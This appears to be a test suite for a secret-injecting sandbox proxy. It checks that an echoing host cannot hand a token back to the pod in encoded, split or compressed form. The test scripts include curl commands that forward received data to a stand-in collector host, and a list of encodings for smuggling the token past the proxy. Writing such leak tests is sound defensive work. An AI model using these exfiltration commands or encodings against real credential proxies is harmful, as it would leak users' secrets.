// A secret's own host that echoes the request back in another form: base64 at every alignment,
// hex, percent and JSON escapes, in the reason phrase, as a header name, split over two headers,
// compressed. The pod fetches each and forwards what it received to another allowed host (the
// exfiltration it would attempt); none of it, nor the run's audit, store, output or diff, may
// hold the real value in any of those forms.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import http from 'node:http';
import https from 'node:https';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import zlib from 'node:zlib';
import { after, before, test } from 'node:test';
import { auditEvents, cli, policyFile, tmpDir, workspace } from './helpers.js';

// Token characters only (it must fit a header name), some of which percent-encoding changes.
const VALUE = `sk-${Math.random().toString(16).slice(2, 14)}${Math.random().toString(16).slice(2, 14)}+x|y^z`;
const KEY2 = `k2-${Math.random().toString(36).slice(2)}-second`;
const PREFIX = ['', 'x', 'xy'];

/** What the echo server makes of the Authorization header, by route. */
const ROUTES: Record<string, (auth: string, res: http.ServerResponse) => void> = {
  raw: (a, res) => res.end(a),
  // Honours Range, as static file servers do: a slice of the echo is a piece of the value.
  range: (a, res) => {
    const m = /^bytes=(\d+)-(\d+)$/.exec(String(res.req.headers.range));
    if (!m) return res.end(a);
    res.writeHead(206, { 'Content-Range': `bytes ${m[1]}-${m[2]}/${a.length}` });
    res.end(a.slice(Number(m[1]), Number(m[2]) + 1));
  },
  ...Object.fromEntries(
    PREFIX.flatMap((p, k) => [
      [`b64-${k}`, (a: string, res: http.ServerResponse) => res.end(Buffer.from(p + a).toString('base64'))],
      [`b64url-${k}`, (a: string, res: http.ServerResponse) => res.end(Buffer.from(p + a).toString('base64url'))],
    ]),
  ),
  hex: (a, res) => res.end(Buffer.from(a).toString('hex')),
  HEX: (a, res) => res.end(Buffer.from(a).toString('hex').toUpperCase()),
  pct: (a, res) => res.end(encodeURIComponent(a)),
  pctall: (a, res) => res.end([...Buffer.from(a)].map((b) => `%${b.toString(16).padStart(2, '0').toUpperCase()}`).join('')),
  json: (a, res) => res.end(`{"auth":"${[...a].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join('')}"}`),
  reason: (a, res) => {
    res.writeHead(200, a);
    res.end('see the status line');
  },
  hname: (a, res) => {
    res.setHeader(`X-${a.replace(/^Bearer /, '')}`, '1');
    res.end('see the header names');
  },
  split: (a, res) => {
    const h = a.length >> 1;
    res.setHeader('X-Part-1', a.slice(0, h));
    res.setHeader('X-Part-2', a.slice(h));
    res.end('two halves');
  },
  gzip: (a, res) => {
    res.writeHead(200, { 'Content-Encoding': 'gzip' });
    res.end(zlib.gzipSync(a));
  },
  deflate: (a, res) => {
    res.writeHead(200, { 'Content-Encoding': 'deflate' });
    res.end(zlib.deflateSync(a));
  },
  br: (a, res) => {
    res.writeHead(200, { 'Content-Encoding': 'br' });
    res.end(zlib.brotliCompressSync(a));
  },
};

/** Every spelling of value the test knows, computed here independently of clawpod's own. */
function spellings(value: string): string[] {
  const b = Buffer.from(value);
  const out = [value, encodeURIComponent(value), b.toString('hex'), b.toString('hex').toUpperCase()];
  out.push([...b].map((x) => `%${x.toString(16).padStart(2, '0').toUpperCase()}`).join(''));
  out.push([...value].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''));
  for (let k = 0; k < 3; k++) {
    for (const enc of ['base64', 'base64url'] as const) {
      const s = Buffer.concat([Buffer.alloc(k), b]).toString(enc);
      out.push(s.slice(Math.ceil((8 * k) / 6), Math.floor((8 * (k + b.length)) / 6)));
    }
  }
  return out;
}

/** Which spelling of value (if any) bytes reveal, also after undoing compression and a header split. */
function reveals(bytes: Buffer, value = VALUE): string | null {
  const views = [bytes.toString('latin1'), bytes.toString('latin1').replace(/\r\nX-Part-2: /gi, '')];
  const body = bytes.subarray(bytes.indexOf('\r\n\r\n') + 4);
  for (const un of [zlib.gunzipSync, zlib.inflateSync, zlib.brotliDecompressSync]) {
    try {
      views.push(un(body).toString('latin1'));
    } catch {
      /* not that encoding */
    }
  }
  for (const v of views) for (const s of spellings(value)) if (v.includes(s)) return s;
  return null;
}

let home: string;
let pki: string;
let plain: http.Server;
let secure: https.Server;
let collector: http.Server;
const ports = { plain: 0, secure: 0, collect: 0 };
const seen: { url: string; headers: http.IncomingHttpHeaders }[] = [];
const collected = new Map<string, Buffer>();

function echo(req: http.IncomingMessage, res: http.ServerResponse): void {
  seen.push({ url: req.url ?? '', headers: req.headers });
  const route = ROUTES[(req.url ?? '/').slice(1).split('?')[0]];
  if (route) route(req.headers.authorization ?? '', res);
  else res.end(`ok ${req.url}`);
}

function makePki(dir: string): void {
  const run = (...args: string[]) => execFileSync('openssl', args, { cwd: dir, stdio: 'pipe' });
  run('req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-keyout', 'ca.key', '-out', 'ca.pem', '-days', '2', '-subj', '/CN=echo test CA');
  fs.writeFileSync(path.join(dir, 'ext.cnf'), 'subjectAltName=DNS:secure.test\n');
  run('req', '-newkey', 'rsa:2048', '-nodes', '-keyout', 'srv.key', '-out', 'srv.csr', '-subj', '/CN=secure.test');
  run('x509', '-req', '-in', 'srv.csr', '-CA', 'ca.pem', '-CAkey', 'ca.key', '-CAcreateserial', '-out', 'srv.pem', '-days', '2', '-extfile', 'ext.cnf');
}

async function listen(s: http.Server): Promise<number> {
  await new Promise<void>((r) => s.listen(0, '127.0.0.1', r));
  return (s.address() as AddressInfo).port;
}

before(async () => {
  home = tmpDir('home');
  pki = tmpDir('pki');
  makePki(pki);
  plain = http.createServer(echo);
  secure = https.createServer({ key: fs.readFileSync(path.join(pki, 'srv.key')), cert: fs.readFileSync(path.join(pki, 'srv.pem')) }, echo);
  collector = http.createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      collected.set((req.url ?? '').slice(1), Buffer.concat(chunks));
      res.end('got it\n');
    });
  });
  ports.plain = await listen(plain);
  ports.secure = await listen(secure);
  ports.collect = await listen(collector);
});
after(() => {
  plain.close();
  secure.close();
  collector.close();
});

function policy(secrets: string[]): string {
  return policyFile(
    [
      'version: 1',
      'network:',
      `  allow: ["echo.test:${ports.plain}", "secure.test:${ports.secure}", "collect.test:${ports.collect}"]`,
      '  hosts: { echo.test: 127.0.0.1, secure.test: 127.0.0.1, collect.test: 127.0.0.1 }',
      `  extraCA: ["${path.join(pki, 'ca.pem')}"]`,
      'secrets:',
      ...secrets,
    ].join('\n'),
  );
}

/** Every place a run keeps: audit, store, diff. */
async function runTraces(runId: string): Promise<Array<[string, Buffer]>> {
  const diff = await cli(['runs', 'diff', runId], { home });
  return [
    ['audit', fs.readFileSync(path.join(home, 'runs', runId, 'audit.jsonl'))],
    ['store', fs.readFileSync(path.join(home, 'clawpod.db'))],
    ['diff', Buffer.from(diff.stdout)],
  ];
}

test('an echoing secret host cannot hand the value back in another form', async () => {
  const p = policy([`  - { name: API_TOKEN, from: env:CLAWPOD_ECHO_TOKEN, hosts: ["echo.test:${ports.plain}", "secure.test:${ports.secure}"] }`]);
  const names = Object.keys(ROUTES).join(' ');
  const script = [
    'mkdir got',
    `for r in ${names}; do`,
    `  curl -s -D - --max-time 10 -H "Authorization: Bearer $API_TOKEN" "http://echo.test:${ports.plain}/$r" > "got/http-$r"`,
    `  curl -s -D - --max-time 10 -H "Authorization: Bearer $API_TOKEN" -H "Accept-Encoding: gzip" "https://secure.test:${ports.secure}/$r" > "got/https-$r"`,
    'done',
    `for r in 0-20 21-99; do curl -s --max-time 10 -r $r -H "Authorization: Bearer $API_TOKEN" "http://echo.test:${ports.plain}/range"; done > got/http-range-joined`,
    `for f in got/*; do curl -s --max-time 10 --data-binary @"$f" "http://collect.test:${ports.collect}/\${f#got/}" >/dev/null; done`,
    'cat got/*',
  ].join('\n');
  const r = await cli(['exec', '--policy', p, '--', 'sh', '-c', script], { home, cwd: workspace(), env: { CLAWPOD_ECHO_TOKEN: VALUE }, timeoutMs: 120_000 });
  assert.equal(r.code, 0, r.stderr);
  assert.ok(
    seen.some((s) => s.headers.authorization === `Bearer ${VALUE}`),
    'the echo host did get the real value',
  );
  const routes = [...Object.keys(ROUTES).flatMap((n) => [`http-${n}`, `https-${n}`]), 'http-range-joined'];
  assert.deepEqual([...collected.keys()].sort(), routes.sort(), 'the pod forwarded every answer');
  const leaks = [...collected].map(([k, v]) => [k, reveals(v)]).filter(([, s]) => s !== null);
  assert.deepEqual(leaks, [], 'what the pod received reveals the value');
  for (const [where, bytes] of [['stdout', Buffer.from(r.stdout)], ['stderr', Buffer.from(r.stderr)], ...(await runTraces(r.runId!))] as Array<
    [string, Buffer]
  >) {
    assert.equal(reveals(bytes), null, `${where} reveals the value`);
  }
  const gz = collected.get('http-gzip')!.toString('latin1');
  assert.match(gz, /^HTTP\/1\.1 200/, 'a compressed answer is decoded and scanned, not refused');
  assert.doesNotMatch(gz, /content-encoding/i);
});

test('the value goes only into request headers: a placeholder in the query or userinfo is not swapped', async () => {
  const p = policy([`  - { name: API_TOKEN, from: env:CLAWPOD_ECHO_TOKEN, hosts: ["echo.test:${ports.plain}"] }`]);
  const before = seen.length;
  const script = [
    `curl -s -o /dev/null -w "%{http_code} %header{x-clawpod-deny}\\n" "http://echo.test:${ports.plain}/q?key=$API_TOKEN"`,
    `curl -s -o /dev/null -w "%{http_code}\\n" --proxy-header "X-Unused: 1" "http://u:$API_TOKEN@echo.test:${ports.plain}/ui"`,
    `curl -s -o /dev/null -w "%{http_code}\\n" -H "X-$API_TOKEN: 1" "http://echo.test:${ports.plain}/hdrname"`,
    `curl -s -o /dev/null -w "%{http_code}\\n" -H "X-Api-Key: $API_TOKEN" "http://echo.test:${ports.plain}/hdr"`,
    `curl -s -o /dev/null -w "%{http_code} %header{x-clawpod-deny}\\n" -A "bot $API_TOKEN" "http://echo.test:${ports.plain}/ua"`,
  ].join('; ');
  const r = await cli(['exec', '--policy', p, '--', 'sh', '-c', script], { home, cwd: workspace(), env: { CLAWPOD_ECHO_TOKEN: VALUE } });
  assert.equal(r.code, 0, r.stderr);
  const got = seen.slice(before);
  assert.ok(
    got.some((s) => s.headers['x-api-key'] === VALUE),
    'a credential header value still gets it',
  );
  for (const s of got) {
    const { 'x-api-key': _k, ...rest } = s.headers;
    const outside = JSON.stringify({ url: s.url, rest });
    assert.equal(reveals(Buffer.from(outside)), null, `the value went outside a header value: ${outside}`);
    assert.ok(
      !Buffer.from(s.headers.authorization?.replace(/^Basic /, '') ?? '', 'base64')
        .toString()
        .includes(VALUE),
      'userinfo became Basic with the value',
    );
  }
  const lines = r.stdout.trim().split('\n');
  assert.match(lines[0], /^403 .*API_TOKEN.*query/, 'a misplaced placeholder is refused, saying where it may go');
  assert.match(lines[4], /^403 .*API_TOKEN.*User-Agent header/, 'so is one in a header the service may store and echo');
  assert.ok(auditEvents(home, r.runId!).some((e) => e.type === 'net.deny' && String(e.data.reason).includes('API_TOKEN')));
});

test('inject.header: the proxy sets the header itself in the given format; the pod sends nothing', async () => {
  const p = policy([
    `  - { name: KEY2, from: env:CLAWPOD_ECHO_KEY2, hosts: ["secure.test:${ports.secure}"], inject: { header: X-Api-Key, format: "Key {}" } }`,
  ]);
  const before = seen.length;
  const script = `curl -s --max-time 10 "https://secure.test:${ports.secure}/plain"; curl -s -o /dev/null -w "%{http_code}\\n" -H "Authorization: Bearer $KEY2" "https://secure.test:${ports.secure}/other"`;
  const r = await cli(['exec', '--policy', p, '--', 'sh', '-c', script], { home, cwd: workspace(), env: { CLAWPOD_ECHO_KEY2: KEY2 } });
  assert.equal(r.code, 0, r.stderr);
  const got = seen.slice(before);
  assert.equal(got[0]?.headers['x-api-key'], `Key ${KEY2}`);
  assert.match(r.stdout, /^ok \/plain403$/m, 'the placeholder in another header is refused');
  assert.equal(got.length, 1);
  assert.ok(auditEvents(home, r.runId!).some((e) => e.type === 'secret.use' && e.data.name === 'KEY2'));
});
